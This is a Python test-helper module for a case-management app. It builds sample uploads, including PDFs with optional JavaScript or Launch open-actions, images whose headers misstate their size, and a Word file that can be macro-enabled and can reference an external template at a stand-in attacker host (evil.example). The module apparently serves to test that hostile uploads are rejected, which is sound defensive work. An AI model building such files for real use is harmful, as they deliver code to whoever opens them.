"""Makers of files as people hand them in, good and hostile, and of documents and notes."""

import io
import struct
import zipfile
import zlib
from datetime import date, timedelta
from typing import Any

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, create_string_object

from safar.accounts.models import User
from safar.assistance.cases.actions import erasing, moving, notes, papers
from safar.assistance.cases.actions.papers import DocumentFacts
from safar.assistance.cases.choices.case import Closure
from safar.assistance.cases.choices.papers import DocumentKind, ErasureWhy
from safar.assistance.cases.models import Case, Document, Erasure, Note
from safar.core.record import writing
from tests.makers import cases as make
from tests.makers.accounts import actor

WORD_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def pdf(pages: int = 1, *, script: str = "", launch: str = "", locked: bool = False) -> bytes:
    """A PDF of empty pages; with a script or a start of a program where one is named."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    for kind, key, what in (("/JavaScript", "/JS", script), ("/Launch", "/F", launch)):
        if what:
            act = {NameObject("/S"): NameObject(kind), NameObject(key): create_string_object(what)}
            writer._root_object[NameObject("/OpenAction")] = DictionaryObject(act)
    if locked:
        writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png(width: int = 8, height: int = 8, *, rows: int | None = None, says: int = 0) -> bytes:
    """A grey PNG; `rows` of pixels are there, and the header may say another width."""
    header = struct.pack(">IIBBBBB", says or width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress((b"\0" + b"\x80" * width) * (height if rows is None else rows))
    parts = ((b"IHDR", header), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def jpeg(width: int = 8, height: int = 8, *, says: tuple[int, int] | None = None) -> bytes:
    """A grey JPEG; its frame may say another width and height."""
    out = io.BytesIO()
    Image.new("L", (width, height), 128).save(out, "JPEG")
    file = out.getvalue()
    frame = file.index(b"\xff\xc0") + 5
    sides = struct.pack(">HH", *reversed(says)) if says else file[frame : frame + 4]
    return file[:frame] + sides + file[frame + 4 :]


def xlsx(cell: str = "Rahmatov") -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.active["A1"] = cell
    book.save(out)
    return out.getvalue()


def docx(
    *, more: dict[str, bytes] | None = None, macro: bool = False, calls: bool = False
) -> bytes:
    """A Word document of one word, with whatever else is put into the archive."""
    kind = "application/vnd.ms-word.document.macroEnabled." if macro else WORD_TYPES + "document."
    types = f"""<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml" ContentType="{kind}main+xml"/></Types>"""
    far = ' TargetMode="External"' if calls else ""
    relations = f"""<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t"{far}/>
</Relationships>"""
    parts = {
        "[Content_Types].xml": types.encode(),
        "word/document.xml": b'<?xml version="1.0"?><document>word</document>',
        "word/_rels/document.xml.rels": relations.encode(),
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def document(by: User, case: Case, file: bytes = b"words on paper", **facts: Any) -> Document:
    """A document that a worker added; a receipt unless said otherwise."""
    known = DocumentFacts(**{"kind": DocumentKind.RECEIPT, "title": "Receipt", **facts})
    return papers.add_document(actor(by), case, facts=known, file=file)


def note(by: User, case: Case, text: str = "She called.", **how: Any) -> Note:
    return notes.add_note(actor(by), case, text=text, **how)


def closed_long_ago(by: User, case: Case, years: int = 6) -> Case:
    """Close a case as of some years ago."""
    moving.move_case(actor(by), case, move="close", closure=Closure.COMPLETED)
    with writing("cases"):
        day = date.today() - timedelta(days=366 * years)
        Case.objects.filter(pk=case.pk).update(opened_on=day, closed_on=day)
    case.refresh_from_db()
    return case


def protection_officer(username: str = "9001", **where: Any) -> User:
    return make.caseworker(username, role="data_protection_officer", **where)


def erased(case: Case, by: User | None = None, second: User | None = None) -> Erasure:
    """A closed case, erased by two data protection officers."""
    by, second = by or protection_officer(), second or protection_officer("9002")
    proposed = erasing.propose_erasure(
        actor(by), case, why=ErasureWhy.OVER_TIME, reason="five years, rule of the tests"
    )
    return erasing.approve_erasure(actor(second), proposed)
